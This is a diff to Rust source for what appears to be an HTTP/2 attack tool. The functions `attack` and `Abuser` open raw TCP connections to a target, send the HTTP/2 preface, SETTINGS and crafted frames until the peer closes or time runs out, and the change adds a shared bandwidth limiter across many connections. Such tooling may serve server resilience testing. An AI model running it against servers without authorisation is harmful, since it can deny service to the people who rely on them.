@@ -4,6 +4,7 @@
 
 use std::io;
 use std::net::SocketAddr;
+use std::sync::Mutex;
 use std::time::{Duration, Instant};
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
@@ -83,19 +84,33 @@ pub(crate) struct Report {
 /// Fields that get a request as far as one without a secret gets.
 pub(crate) type Fields<'a> = &'a [(&'a str, String)];
 
-const DATA: u8 = 0;
-const HEADERS: u8 = 1;
+/// What a client says first.
+pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+pub(crate) const DATA: u8 = 0;
+pub(crate) const HEADERS: u8 = 1;
 const PRIORITY: u8 = 2;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
 const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
+pub(crate) const END_STREAM: u8 = 1;
+pub(crate) const END_HEADERS: u8 = 4;
 
 /// Attacks on one connection until the peer closes it, or for so long.
 pub(crate) async fn attack(
+    kind: Attack,
+    from: &str,
+    to: SocketAddr,
+    fields: Fields<'_>,
+    time: Duration,
+) -> io::Result<Report> {
+    attack_over(&Uplink::of(u64::MAX), kind, from, to, fields, time).await
+}
+
+/// The same over a line that other connections may share.
+pub(crate) async fn attack_over(
+    uplink: &Uplink,
     kind: Attack,
     from: &str,
     to: SocketAddr,
@@ -116,7 +131,11 @@ pub(crate) async fn attack(
         } else {
             Duration::from_millis(200)
         };
-        match timeout(deadline - Instant::now(), connection.send(&wire, pause)).await {
+        let sending = async {
+            uplink.carries(wire.len()).await;
+            connection.send(&wire, pause).await
+        };
+        match timeout(deadline - Instant::now(), sending).await {
             Ok(true) => report.frames += frames,
             Ok(false) => {
                 report.closed = true;
@@ -126,6 +145,34 @@ pub(crate) async fn attack(
         }
     }
     Ok(report)
+}
+
+/// A line that carries so much and no more.
+pub(crate) struct Uplink {
+    bytes_per_second: u64,
+    /// Until when it is taken.
+    taken: Mutex<Instant>,
+}
+
+impl Uplink {
+    pub(crate) fn of(bytes_per_second: u64) -> Self {
+        Self {
+            bytes_per_second,
+            taken: Mutex::new(Instant::now()),
+        }
+    }
+
+    /// Waits until so many bytes can go.
+    async fn carries(&self, bytes: usize) {
+        let until = {
+            let mut taken = self.taken.lock().expect("nobody panicked");
+            let begun = (*taken).max(Instant::now());
+            let nanos = bytes as u64 * 1_000_000_000 / self.bytes_per_second;
+            *taken = begun + Duration::from_nanos(nanos);
+            begun
+        };
+        tokio::time::sleep_until(until.into()).await;
+    }
 }
 
 /// Some frames of an attack, many in one write.
@@ -212,7 +259,7 @@ impl Abuser {
             _ => 65_535,
         };
         let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
-        tcp.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
+        tcp.write_all(PREFACE).await?;
         tcp.write_all(&frame(SETTINGS, 0, 0, &settings)).await?;
         tcp.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
         Ok(Self(tcp))
@@ -239,14 +286,14 @@ impl Abuser {
     }
 }
 
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
     let stream = stream.to_be_bytes();
     [&length[1..], &[kind, flags], &stream, payload].concat()
 }
 
 /// A head in HPACK without any compression.
-fn head(fields: Fields<'_>) -> Vec<u8> {
+pub(crate) fn head(fields: Fields<'_>) -> Vec<u8> {
     // By http, as the static table has it.
     let mut head = vec![0x86];
     for (name, value) in fields {
